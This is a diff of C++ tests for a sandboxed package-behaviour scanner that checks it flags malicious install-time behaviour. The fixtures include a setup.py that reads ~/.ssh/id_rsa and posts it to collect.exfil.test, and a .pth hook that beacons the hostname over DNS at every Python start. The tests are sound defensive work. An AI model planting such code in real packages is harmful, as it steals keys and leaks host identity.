@@ -7,6 +7,7 @@
 
 #include <nlohmann/json.hpp>
 
+#include "adapters/scanners/behavior.h"
 #include "real_scanners.h"
 #include "wire/base64.h"
 
@@ -94,6 +95,25 @@ class BehaviorReal : public ::testing::Test {
     return t.is_discarded() ? json::object() : t;
   }
 
+  // The findings of the behavior scanner (its adapter, as the worker runs it) on `archive`.
+  std::map<std::string, core::Severity> findings(core::PackageKind kind, const std::string& archive) {
+    auto rt = bwrap_runtime(*scratch_, rooms_);
+    adapters::BehaviorOptions o;
+    o.import_timeout = std::chrono::seconds(8);
+    adapters::BehaviorScanner scanner(o);
+    core::ScanInput in;
+    in.package.kind = kind;
+    in.package.name = "x";
+    in.package.version = "1.0";
+    in.artifact = adapters::memory_blob(archive, "artifact");
+    auto got = core::scan_with(scanner, *rt, in);
+    EXPECT_TRUE(got) << (got ? "" : got.error().message);
+    std::map<std::string, core::Severity> out;
+    if (!got) return out;
+    for (const core::Finding& f : *got) out[f.reference.value_or("")] = f.severity;
+    return out;
+  }
+
   static Scratch* scratch_;
   static fs::path rooms_;
   static std::string* room_error_;
@@ -142,8 +162,13 @@ TEST_F(BehaviorReal, a_postinstall_that_resolves_a_name_carrying_the_user_is_see
   json t = detonate("npm", npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
   ASSERT_TRUE(t.contains("events"));
   std::string asked;
-  for (const json& e : events(t, "dns", "install")) asked = e.at("host");
+  bool identity = false;
+  for (const json& e : events(t, "dns", "install")) {
+    asked = e.at("host");
+    identity = identity || e.value("identity", false);
+  }
   ASSERT_FALSE(asked.empty()) << t.dump(1);
+  EXPECT_TRUE(identity) << "the user's name is host identity: " << asked;
   EXPECT_TRUE(asked.ends_with(".hostname-dns.dns.exfil.test")) << asked;
   EXPECT_FALSE(asked.starts_with(".")) << "the user's name is in it: " << asked;
   auto execs = events(t, "exec", "install");
@@ -227,6 +252,60 @@ TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_
   for (const char* kind : {"decoy-open", "dns", "connect", "stream", "datagram", "write"}) {
     EXPECT_TRUE(events(t, kind, "install").empty()) << kind << ": " << t.dump(1);
   }
+}
+
+TEST_F(BehaviorReal, through_the_scanner_the_key_posted_at_install_is_critical_and_the_read_high) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string pre =
+      "import os, urllib.request\n"
+      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+      "urllib.request.urlopen('http://collect.exfil.test/k', data=key.encode(), timeout=5)\n";
+  auto got = findings(core::PackageKind::kPypi,
+                      sdist("keysend", {file("setup.py", setup_py("keysend", pre)), file("keysend/__init__.py", "")}));
+  EXPECT_EQ(got["behavior-canary-sent"], core::Severity::kCritical);
+  EXPECT_EQ(got["behavior-token-store-read"], core::Severity::kHigh);
+  EXPECT_EQ(got["behavior-network-at-install"], core::Severity::kMedium);
+}
+
+TEST_F(BehaviorReal, a_wheel_s_pth_file_runs_at_every_interpreter_start_and_is_seen_at_import) {
+  BATLEHUB_NEED_BWRAP();
+  // A .pth line that starts with "import" runs whenever Python starts (site.py).
+  const std::string pth =
+      "import os, socket; socket.getaddrinfo(os.uname().nodename + '.pth.exfil.test', 443) if "
+      "os.environ.get('HOME') else None\n";
+  const std::string wheel = make_zip({file("pthdemo/__init__.py", ""),
+                                      file("pthdemo-1.0.dist-info/METADATA",
+                                           "Metadata-Version: 2.1\nName: pthdemo\n"
+                                           "Version: 1.0\n"),
+                                      file("pthdemo-1.0.dist-info/WHEEL",
+                                           "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
+                                           "Tag: py3-none-any\n"),
+                                      file("pthdemo-1.0.dist-info/top_level.txt", "pthdemo\n"),
+                                      file("pthdemo-1.0.dist-info/RECORD", ""), file("pthdemo_hook.pth", pth)});
+  json t = detonate("pypi", wheel);
+  ASSERT_TRUE(t.contains("phases"));
+  ASSERT_GE(t.at("phases").size(), 3U) << t.dump(1);
+  EXPECT_EQ(t.at("phases")[1].value("exit_code", -1), 0) << t.at("phases")[1].value("output_tail", "");
+  bool asked = false;
+  for (const json& e : events(t, "dns", "import")) {
+    asked = asked || (e.at("host").get<std::string>().ends_with(".pth.exfil.test") && e.value("identity", false));
+  }
+  EXPECT_TRUE(asked) << "the host's name, asked of the resolver by the .pth at the import's start: " << t.dump(1);
+}
+
+TEST_F(BehaviorReal, through_the_scanner_an_ordinary_package_gives_no_finding) {
+  BATLEHUB_NEED_BWRAP();
+  auto py =
+      findings(core::PackageKind::kPypi,
+               sdist("plain", {file("setup.py", setup_py("plain", "")),
+                               file("plain/__init__.py", "import json, os\nVALUE = json.dumps({'a': os.sep})\n")}));
+  EXPECT_TRUE(py.empty());
+  const std::string pj = R"({"name":"plain","version":"1.0.0","main":"index.js",
+    "scripts":{"postinstall":"node -e \"require('fs').writeFileSync('built.txt', 'ok')\""}})";
+  auto js =
+      findings(core::PackageKind::kNpm,
+               npm_package({file("package.json", pj), file("index.js", "module.exports = require('path').sep;\n")}));
+  EXPECT_TRUE(js.empty());
 }
 
 }  // namespace
